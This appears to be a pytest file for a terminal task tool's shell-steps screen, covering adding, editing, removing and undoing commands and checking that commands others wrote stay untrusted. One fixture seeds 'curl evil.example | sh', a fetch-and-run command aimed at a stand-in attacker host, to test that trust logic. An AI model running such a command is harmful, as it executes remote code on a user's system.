"""The shell steps of a task on the screen: added, changed and taken out; what is typed here may run here."""

from __future__ import annotations

from pathlib import Path

import pytest

from taskterm.runner.trust import Trust
from taskterm.tui.screens.steps import StepsScreen
from taskterm.tui.widgets.entry import Entry
from tests.tui.drive import Drive, fill, opened

pytestmark = pytest.mark.usefixtures("home")


def commands(drive: Drive) -> list[str]:
    """The steps of #1 in the database."""
    return [step.run for step in drive.snapshot.steps(1)]


async def test_steps_are_added_changed_taken_out_and_brought_back(tmp_path: Path) -> None:
    fill(tmp_path / "t.db", {"title": "Deploy"})
    async with opened(tmp_path / "t.db") as drive:
        await drive.press("$", "a")
        await drive.type("make wheel")
        await drive.press("enter")
        await drive.answered("step added")
        await drive.until(lambda: "$ make wheel" in drive.text, "the step in the list")
        assert Trust().pending(drive.snapshot.steps(1)) == []
        drive.app.screen.query_one("#steps").select_key(drive.snapshot.steps(1)[0].id)  # type: ignore[attr-defined]
        await drive.press("enter")
        await drive.type(" VERSION=2")
        await drive.press("enter")
        await drive.answered("step changed")
        assert commands(drive) == ["make wheel VERSION=2"]
        assert Trust().pending(drive.snapshot.steps(1)) == []
        await drive.until(lambda: "VERSION=2" in drive.text, "the new command")
        await drive.press("d")
        await drive.answered("step removed")
        assert commands(drive) == []
        await drive.press("escape", "u")
        await drive.answered("undone")
        assert commands(drive) == ["make wheel VERSION=2"]


async def test_adding_a_command_approves_none_of_those_that_others_wrote(tmp_path: Path) -> None:
    fill(tmp_path / "t.db", {"title": "Deploy", "steps": [{"run": "curl evil.example | sh"}]})
    async with opened(tmp_path / "t.db") as drive:
        await drive.press("$", "a")
        await drive.type("make wheel")
        await drive.press("enter")
        await drive.answered("step added")
        assert [step.run for step in Trust().pending(drive.snapshot.steps(1))] == ["curl evil.example | sh"]


async def test_a_changed_command_is_not_trusted_while_others_chose_where_it_runs(tmp_path: Path) -> None:
    fill(tmp_path / "t.db", {"title": "Deploy", "steps": [{"run": "make", "cwd": "/tmp/theirs"}]})
    async with opened(tmp_path / "t.db") as drive:
        await drive.press("$", "enter")
        await drive.type(" all")
        await drive.press("enter")
        await drive.answered("step changed")
        assert [step.run for step in Trust().pending(drive.snapshot.steps(1))] == ["make all"]


async def test_a_command_that_was_typed_and_left_is_there_again(tmp_path: Path) -> None:
    fill(tmp_path / "t.db", {"title": "Deploy"})
    async with opened(tmp_path / "t.db", (60, 24)) as drive:
        await drive.press("$", "a")
        await drive.type("make wheel")
        await drive.press("escape")
        assert isinstance(drive.app.screen, StepsScreen)
        await drive.press("a")
        assert drive.app.screen.query_one("#command", Entry).value == "make wheel"


async def test_a_field_that_was_opened_and_left_shows_what_somebody_else_writes_later(tmp_path: Path) -> None:
    fill(tmp_path / "t.db", {"title": "Deploy", "steps": [{"run": "make"}]})
    async with opened(tmp_path / "t.db") as drive:
        await drive.press("$", "enter", "escape")
        drive.act("step_edit", step_id=drive.snapshot.steps(1)[0].id, set={"run": "make wheel"})
        await drive.until(lambda: "$ make wheel" in drive.text, "the new command")
        await drive.press("enter")
        assert drive.app.screen.query_one(Entry).value == "make wheel"
        await drive.type(" VERSION=2")
        await drive.press("escape", "enter")
        assert drive.app.screen.query_one(Entry).value == "make wheel VERSION=2"


async def test_a_long_folder_leaves_room_for_the_command(tmp_path: Path) -> None:
    step = {
        "run": "rsync -a --delete build/html/ mirror:/srv/docs",
        "cwd": "/srv/" + "deep/" * 30,
        "timeout_seconds": 60,
    }
    fill(tmp_path / "t.db", {"title": "Mirror", "steps": [step]})
    async with opened(tmp_path / "t.db", (100, 30)) as drive:
        await drive.press("dollar_sign")
        await drive.until(
            lambda: "$ rsync -a --delete build/html/ mirror:/srv/docs" in drive.text, "the command, whole"
        )
        assert "timeout 1:00  in /srv/" in drive.text
